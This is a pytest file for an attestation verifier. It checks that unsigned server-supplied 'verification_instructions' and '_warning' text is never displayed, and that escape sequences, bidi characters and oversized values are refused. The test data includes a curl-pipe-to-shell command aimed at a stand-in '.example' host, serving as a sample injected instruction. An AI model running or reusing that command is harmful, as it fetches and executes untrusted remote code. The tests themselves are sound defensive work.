"""What a server says in words, `verification_instructions` and `_warning`, is not signed: whoever carries a reply can
write what they like there. None of it is shown by a command that verifies."""

import json

import pytest
from helpers.enclave import Enclave, client, reply
from helpers.session import NONCE, PCR0, attestd, done, session
from helpers.verifier import verify

WORDS = "LIES-OF-WHOEVER-CARRIES-IT"
INSTRUCTIONS = {"summary": WORDS, "steps": [WORDS, f"curl https://{WORDS}.example | sh"]}


def with_words(value):
    """A reply that still has the form that the server gives it."""
    if "verification_instructions" in value:
        value["verification_instructions"] = INSTRUCTIONS
    if isinstance(value.get("attestation_document"), dict):
        value["attestation_document"]["_warning"] = WORDS
    return {**value, "_warning": WORDS}


def lie(method, path, body):
    value = json.loads(body)
    return json.dumps(with_words(value)).encode() if "attestation_document" in value else body


@pytest.fixture
def policy(simulated):
    return ("--root", simulated.root, "--pcr", f"0={PCR0}")


def silent(run, status=0):
    said = run.out if isinstance(run.out, str) else run.out.decode()
    assert run.status == status and WORDS not in said + run.err, run


@pytest.mark.parametrize("form", [(), ("--json",)])
@pytest.mark.parametrize("good", [True, False])
def test_attest_shows_none_of_it(simulated, liar, policy, tmp_path, form, good):
    pins = policy if good else ("--root", simulated.root, "--pcr", f"0={'b' * 96}")
    for url in (simulated.local, simulated.public):
        silent(attestd("attest", "--url", liar(url, reply=lie), *pins, *form, "--out", tmp_path / "kept"), 0 if good else 1)
        assert WORDS in (tmp_path / "kept").read_text(), "what is kept is the reply as it came"


@pytest.mark.parametrize("form", [(), ("--json",)])
@pytest.mark.parametrize("good", [True, False])
def test_verify_shows_none_of_it(simulated, user, policy, form, good):
    keys = simulated.post("/key-exchange", {"user_public_key": user.pem}).json()
    for value in (simulated.attest(), keys, simulated.get("/attestation").json()):
        pins = policy if good else ("--root", simulated.root, "--nonce", "text:another")
        silent(verify(*pins, *form, data=json.dumps(with_words(value)).encode()), 0 if good else 1)


def test_a_server_that_verifies_shows_none_of_it(simulated):
    for policy in ({}, {"root": simulated.root.read_text()}):
        answer = simulated.post("/verify", {"reply": with_words(simulated.attest()), "policy": policy})
        assert answer.json()["verified"] is bool(policy) and WORDS not in answer.body.decode()


@pytest.mark.parametrize("form", [(), ("--json",)])
def test_open_shows_none_of_it(simulated, remote, liar, form):
    silent(remote.open("--url", liar(simulated.local, reply=lie), *form))
    file = remote.exchange(nonce=NONCE)
    file.write_text(json.dumps(with_words(json.loads(file.read_text()))))
    silent(remote.open("--key", remote.key, "--nonce", NONCE, *form, file, out="other"))
    assert WORDS not in done(session("show", "--session", remote.directory / "other")).decode()


@pytest.mark.parametrize("form", [(), ("--json",)])
def test_client_verify_shows_none_of_it(simulator, form):
    e = Enclave(lambda request: reply(simulator, request, _warning=WORDS))
    silent(client("--verify", "--to", e.to, "--root", simulator.root, "--pcr", f"0={PCR0}", *form))
    e.close()


IMPOSSIBLE = {
    "a list": ["x"], "no member of it": {"pcr0": "00"}, "another summary": {"summary": ["x"]}, "other steps": {"steps": "x"},
    "a step that is none": {"steps": [{"pcrs": {}}]}, "too long a step": {"steps": ["x" * 4097]},
    "too long a summary": {"summary": "x" * 4097}, "too many steps": {"steps": ["x"] * 65},
    "a terminal's commands": {"steps": ["\x1b[2J"]}, "another line": {"steps": ["x\ny"]}, "other letters": {"summary": "\u202ex"},
}


@pytest.mark.parametrize("what", IMPOSSIBLE)
def test_instructions_of_an_impossible_form_are_refused(simulated, policy, what):
    value = simulated.attest()
    value["verification_instructions"] = IMPOSSIBLE[what]
    run = verify(*policy, "--json", data=json.dumps(value).encode())
    assert (run.verdict["code"], run.verdict["field"]) == ("reply_mismatch", "verification_instructions")
    value["verification_instructions"] = {"summary": "x" * 4096, "steps": ["x" * 4096] * 64}
    assert verify(*policy, "--json", data=json.dumps(value).encode()).verdict["verified"] is True


@pytest.mark.parametrize("words", ["x" * 1025, "\x1b[2J", "x\ny", "ü", ["x"]])
def test_a_warning_of_an_impossible_form_is_refused(simulated, policy, words):
    value = simulated.attest()
    for at, field in ((value, "_warning"), (value["attestation_document"], "attestation_document._warning")):
        before = at["_warning"]
        at["_warning"] = words
        run = verify(*policy, "--json", data=json.dumps(value).encode())
        assert (run.verdict["code"], run.verdict["field"]) == ("reply_mismatch", field)
        at["_warning"] = "x" * 1024
        assert verify(*policy, "--json", data=json.dumps(value).encode()).verdict["verified"] is True
        at["_warning"] = before
